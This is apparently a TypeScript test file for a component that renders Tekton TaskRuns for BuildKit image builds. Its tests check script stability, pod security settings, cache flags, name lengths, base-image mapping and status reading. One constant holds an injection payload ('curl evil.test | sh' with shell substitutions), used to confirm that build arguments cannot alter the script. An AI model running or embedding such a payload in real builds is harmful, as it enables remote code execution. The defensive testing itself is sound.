import { Names } from '../engine/names';
import { requestOf } from './__testUtils__/requests';
import { imageMap, optionsOf, specificationOf } from './specification';
import {
  hasEnded,
  renderTaskRun,
  resultOf,
  TASK_RUN,
  taskRunName,
} from './taskRun';

const key = {
  workspace: 'ws-a',
  run: 'run-1',
  stage: 'build',
  app: 'web',
  attempt: 1,
} as const;
const hostile = `'; curl evil.test | sh; $(params.X) $(IMAGE) \${HOME} \`id\`\n"`;

async function rendered(more = {}) {
  const request = await requestOf(
    'ws-a',
    { Dockerfile: 'FROM scratch\n' },
    { arguments: [{ name: 'X', value: hostile }], target: hostile, ...more },
  );
  return renderTaskRun({
    request,
    key,
    names: new Names('test'),
    builderImage: 'builder.test/buildkit:1',
    resources: {
      requests: { cpu: '1', memory: '1Gi' },
      limits: { cpu: '2', memory: '2Gi' },
    },
    bundle: 'r.test/a@sha256:1',
    image: 'r.test/a:1',
    cache: 'r.test/a:cache',
    reuse: !request.noCache,
    options: optionsOf(request, imageMap({}), 'test'),
    specification: specificationOf(request),
  });
}

function stepOf(run: Awaited<ReturnType<typeof rendered>>) {
  const { taskSpec } = run.spec as {
    taskSpec: {
      steps: { script: string; env: { name: string; value: string }[] }[];
    };
  };
  const [{ script, env }] = taskSpec.steps;
  return {
    script,
    environment: Object.fromEntries(
      env.map(({ name, value }) => [name, value]),
    ),
  };
}

it('writes the same script for every build; what differs is in the environment, where nothing can be replaced', async () => {
  const { script, environment } = stepOf(await rendered());
  expect(script).toBe(
    stepOf(await rendered({ arguments: [], target: undefined })).script,
  );
  expect(environment.OPTIONS).toMatch(/^[A-Za-z0-9+/= ]+$/);
  const options = environment.OPTIONS.split(' ').map(word =>
    Buffer.from(word, 'base64').toString(),
  );
  expect(options).toContain(`build-arg:X=${hostile}`);
  expect(options).toContain(`target=${hostile}`);
});

it('runs without the token of an account, and within Pod Security "baseline"', async () => {
  const { spec } = await rendered();
  expect(spec).toMatchObject({
    podTemplate: { automountServiceAccountToken: false },
    taskSpec: {
      steps: [{ securityContext: { runAsUser: 1000, runAsGroup: 1000 } }],
    },
  });
  expect(JSON.stringify(spec)).not.toMatch(/privileged|seccompProfile/i);
});

it('asks for no cache where none is wanted, and still leaves one', async () => {
  const { environment } = stepOf(await rendered({ noCache: true }));
  expect(environment).toMatchObject({ REUSE: 'no', CACHE: 'r.test/a:cache' });
});

it('gives the longest app a name to which Tekton can add its own', () => {
  const name = taskRunName('a'.repeat(40), { ...key, run: 'r'.repeat(200) });
  expect(`${name}-pod`.length).toBeLessThanOrEqual(63);
  expect(taskRunName('web', key)).toBe(taskRunName('web', { ...key }));
  expect(taskRunName('web', key)).not.toBe(
    taskRunName('web', { ...key, attempt: 2 }),
  );
});

it('maps base images to named contexts by the names that BuildKit looks up', async () => {
  const request = await requestOf(
    'ws-a',
    {},
    { baseImages: ['node:22', 'docker.io/library/busybox', 'r.test/own:1'] },
  );
  const images = imageMap({
    'docker.io/library/node:22': 'mirror.test/node:22',
    'busybox:latest': 'mirror.test/busybox:1',
  });
  const contexts = optionsOf(request, images, 'test').filter(option =>
    option.startsWith('context:'),
  );
  expect(contexts).toEqual([
    'context:node:22=docker-image://mirror.test/node:22',
    'context:busybox=docker-image://mirror.test/busybox:1',
  ]);
});

it('tells an image by all that it is made from', async () => {
  const files = { Dockerfile: 'FROM scratch\n' };
  const request = await requestOf('ws-a', files);
  const others = [
    { dockerfile: 'other' },
    { target: 'x' },
    { arguments: [{ name: 'A', value: '1' }] },
    { bundleDigest: '0' },
  ].map(more => specificationOf({ ...request, ...more }));
  expect(new Set([specificationOf(request), ...others]).size).toBe(5);
  expect(specificationOf({ ...request, noCache: true })).toBe(
    specificationOf(request),
  );
});

it('reads how a TaskRun stands', () => {
  const run = (status: 'True' | 'Unknown', value: unknown) => ({
    ...TASK_RUN,
    metadata: {},
    status: {
      conditions: [{ type: 'Succeeded', status }],
      results: [{ name: 'IMAGE_DIGEST', value }],
    },
  });
  expect(hasEnded(run('True', ''))).toBe(true);
  expect(hasEnded(run('Unknown', ''))).toBe(false);
  expect(resultOf(run('True', ''), 'IMAGE_DIGEST')).toBeUndefined();
  expect(resultOf(run('True', 'sha256:1'), 'IMAGE_DIGEST')).toBe('sha256:1');
});
